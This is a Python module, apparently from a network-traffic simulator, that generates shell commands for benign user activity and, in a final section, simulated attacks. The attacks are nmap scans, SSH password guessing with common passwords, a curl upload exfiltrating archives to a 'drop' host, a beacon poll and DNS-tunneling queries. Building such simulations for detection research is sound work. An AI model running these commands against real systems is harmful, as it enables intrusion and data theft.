"""Actions of hosts: a shell command with a real program for each kind of action.

Every function draws from the generator it is given and returns text for `sh -c`. The timetable
(timetable.py) decides when an action happens.
"""

import base64

from .hosts import CACHE_PORT, DARK, DOMAIN, HOSTS, SERVERS, TUNNEL_DOMAIN, USERS
from .network import WORK
from .services import ASSETS, FILES, PAGES, SSH_CONFIG

SSH = f"-F {SSH_CONFIG}"
TYPED = ("uptime", "ls -l docs", "df -h /home", "ps", "id", "cat docs/note1.txt", "date", "wc docs/*",
         "grep river docs/note2.txt | head -3", "ls", "pwd", "tail -2 docs/note3.txt")


def path(rng, directory, count):
    """Path of one of `count` documents; the first ones are chosen far more often."""
    suffix = {"p": "html", "a": "css", "f": "txt"}[directory]
    return f"/{directory}/{min(int(rng.paretovariate(0.9)) - 1, count - 1)}.{suffix}"


def fetch(rng, urls):
    """One curl for all URLs, so that those of one host share a connection."""
    pace = f" --rate {rng.randrange(60, 400)}/m" if rng.random() < 0.5 else ""
    return f"curl -sk{pace} --max-time 8 " + " ".join(f"-o /dev/null {url}" for url in urls)


def browse(rng, _):
    site = rng.choice(("www.example.com", "news.example.net", "news.example.net", "shop.example.org"))
    scheme = "http" if rng.random() < 0.66 else "https"
    own = [path(rng, "p", PAGES)] + [path(rng, "a", ASSETS) for _ in range(rng.choice((0, 0, 1, 2, 3)))]
    command = fetch(rng, [f"{scheme}://{site}{name}" for name in own])
    if rng.random() < 0.25:
        command += "; " + fetch(rng, [f"{scheme}://static.example.com{path(rng, 'a', ASSETS)}"])
    if rng.random() < 0.3:
        command += f"; sleep {rng.uniform(0.1, 0.6):.2f}; " + fetch(rng, [f"{scheme}://{site}{path(rng, 'p', PAGES)}"])
    return command


def intranet(rng, _):
    scheme = "http" if rng.random() < 0.78 else "https"
    urls = [f"{scheme}://web.{DOMAIN}{path(rng, 'p', PAGES)}" for _ in range(rng.choice((1, 1, 2, 3)))]
    if rng.random() < 0.1:
        urls.append(f"{scheme}://web.{DOMAIN}/missing")
    return fetch(rng, urls)


def wget(rng, host):
    site = rng.choice(("www.example.com", "shop.example.org", f"web.{DOMAIN}"))
    return f"wget -q --tries=1 --timeout=5 -O /dev/null http://{site}/old http://{site}{path(rng, 'p', PAGES)}"


def form(rng, _):
    site = rng.choice((f"http://web.{DOMAIN}", "https://shop.example.org"))
    return f"curl -sk -o /dev/null --data-binary @{WORK}/note{rng.randrange(8)}.txt {site}/form"


def download(rng, _):
    site = rng.choice(("http://www.example.com", f"http://web.{DOMAIN}", "https://shop.example.org"))
    return f"curl -sk -o /dev/null {site}{path(rng, 'f', FILES)}"


def lookup(rng, _):
    name, kind = rng.choice((
        ("www.example.com", "A"), ("example.org", "MX"), ("example.com", "TXT"), ("news.example.net", "AAAA"),
        (f"files.{DOMAIN}", "A"), (f"cache.{DOMAIN}", "A"), ("example.net", "NS"), ("shop.example.org", "A")))
    if rng.random() < 0.15:
        return f"dig +short -x {rng.choice(list(SERVERS.values()))}"
    return f"dig +short -t {kind} {name}"


def mistyped_name(rng, _):
    name = rng.choice(("wwww.example.com", "new.example.net", "shp.example.org", f"wiki.{DOMAIN}",
                       f"proxy.{DOMAIN}", f"wpad.{DOMAIN}", "mail.example.invalid"))
    if rng.random() < 0.5:
        return f"curl -s -o /dev/null http://{name}/"
    return f"dig +short {name}"


def refused(rng, _):
    address, port = rng.choice((("web", 8080), ("files", 445), ("www", 8443), ("shell", 80), ("cache", 9121)))
    return f"curl -s -o /dev/null --connect-timeout 2 http://{HOSTS[address]}:{port}/"


def unanswered(rng, _):
    site = rng.choice(("old.example.com", f"legacy.{DOMAIN}", f"printer.{DOMAIN}:631"))
    return f"curl -s -o /dev/null --connect-timeout {rng.choice((1, 2, 4))} http://{site}/"


def dark_lookup(rng, _):
    return f"dig +tries=1 +time=1 @{rng.choice(DARK)} www.example.com"


def aborted(rng, _):
    site = rng.choice(("www.example.com", "news.example.net", f"web.{DOMAIN}"))
    patience = f"{rng.uniform(0.3, 1.4):.2f}"
    if rng.random() < 0.5:
        return f"curl -s -o /dev/null --max-time {patience} http://{site}/slow/0.txt"
    # A client that leaves with data unread resets the connection.
    return f"timeout {patience} wget -q --limit-rate=1k -O /dev/null http://{site}{path(rng, 'f', FILES)}"


def reset(rng, _):
    return f"curl -s -o /dev/null http://{rng.choice(('www.example.com', 'news.example.net'))}/gone"


def ping(rng, _):
    to = HOSTS[rng.choice(("web", "infra", "files", "www", "news"))]
    return f"ping -q -n -c {rng.choice((1, 2, 3, 4))} -i {rng.choice((0.2, 0.5, 1))} {to}"


def dark_ping(rng, _):
    return f"ping -q -n -c 2 -W 1 {rng.choice(DARK)}"


def docs(rng, host):
    if rng.random() < 0.3:
        return f"rsync -q {WORK}/note{rng.randrange(8)}.txt rsync://files.{DOMAIN}/in/{host}.txt"
    return f"rsync -q rsync://files.{DOMAIN}/docs/note{rng.randrange(8)}.txt {WORK}/copy.{host}.txt"


def cache(rng, _):
    lines = ""
    for _ in range(rng.randrange(1, 5)):
        size = rng.randrange(8, 120)
        lines += f"set page:{rng.randrange(500)} 0 0 {size}\\r\\n{'x' * size}\\r\\n"
    return f"printf '{lines}get page:{rng.randrange(500)}\\r\\nquit\\r\\n' | nc cache.{DOMAIN} {CACHE_PORT}"


def ntp(_, host):
    return (f"chronyd -Q -t 3 -u root 'server {SERVERS['infra']} iburst maxsamples 1' 'cmdport 0' "
            f"'bindcmdaddress /' 'pidfile {WORK}/ntp.{host}.pid'")


# Sessions: `to` is the name of a server with sshd.


def ssh_command(rng, _, to):
    user = rng.choice(list(USERS))
    if rng.random() < 0.3:
        return (f"sshpass -p {USERS[user]} ssh {SSH} -o PubkeyAuthentication=no {user}@{HOSTS[to]} "
                f"'{rng.choice(TYPED)}'")
    return f"ssh {SSH} {user}@{HOSTS[to]} '{rng.choice(TYPED)}; sleep {rng.uniform(0, 1.5):.2f}'"


def ssh_mistyped(rng, _, to):
    user = rng.choice(list(USERS))
    login = f"ssh {SSH} -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 {user}@{HOSTS[to]} uptime"
    return f"sshpass -p {USERS[user].lower()}x {login}; sleep 0.8; sshpass -p {USERS[user]} {login}"


def scp_get(rng, host, to):
    name = "report.txt" if rng.random() < 0.15 else f"note{rng.randrange(8)}.txt"
    return f"scp -q {SSH} anna@{HOSTS[to]}:docs/{name} {WORK}/copy.{host}"


def scp_put(rng, host, to):
    return f"scp -q {SSH} {WORK}/note{rng.randrange(8)}.txt anna@{HOSTS[to]}:in/{host}.txt"


def sftp(rng, host, to):
    lines = f"ls docs\\nget docs/note{rng.randrange(8)}.txt {WORK}/copy.{host}\\nls in\\n"
    return f"printf '{lines}' | sftp -q {SSH} -b - ben@{HOSTS[to]}"


def rsync_ssh(rng, host, to):
    return f"rsync -aq -e 'ssh {SSH}' anna@{HOSTS[to]}:docs/note{rng.randrange(8)}.txt {WORK}/copy.{host}"


def ssh_interactive(rng, _, to):
    return f"ssh -tt {SSH} {rng.choice(list(USERS))}@{HOSTS[to]}"


# Attacks.


def port_scans():
    """A SYN scan, a connect scan and a sweep of three ports over the servers."""
    servers = " ".join((*SERVERS.values(), *DARK[:2]))
    nmap = "nmap -n -Pn --send-ip --max-retries 1"
    return (f"{nmap} -sS -T4 --top-ports 60 {SERVERS['web']}",
            f"{nmap} -sT -T3 --top-ports 40 {SERVERS['files']}",
            f"{nmap} -sS -T3 -p 22,445,3389 {servers}")


def password_guess(rng):
    user = rng.choice(("root", "admin", "test", "oracle", "anna", "backup", "git"))
    word = rng.choice(("123456", "password", "admin", "qwerty", "letmein", "changeme", "toor", "welcome1"))
    return (f"sshpass -p {word}{rng.choice(('', '1', '!', '2024'))} ssh {SSH} -o PubkeyAuthentication=no "
            f"-o NumberOfPasswordPrompts=1 {user}@{SERVERS['shell']} true")


def exfiltration(n):
    """A large upload over TLS to a host outside."""
    return (f"curl -sk --limit-rate 60k -T {WORK}/archive{n}.bin "
            f"--resolve files-archive.example.net:443:{HOSTS['drop']} https://files-archive.example.net/up/{n}")


def beacon():
    return f"curl -s -o /dev/null -m 4 http://{HOSTS['beacon']}/poll"


def tunnel_query(rng):
    """A query with data in its labels; the answer carries data back."""
    labels = [base64.b32encode(rng.randbytes(rng.randrange(24, 36))).decode().rstrip("=").lower() for _ in range(3)]
    return f"dig +short +tries=1 +time=2 -t {rng.choice(('TXT', 'TXT', 'NULL'))} {'.'.join(labels)}.{TUNNEL_DOMAIN}"
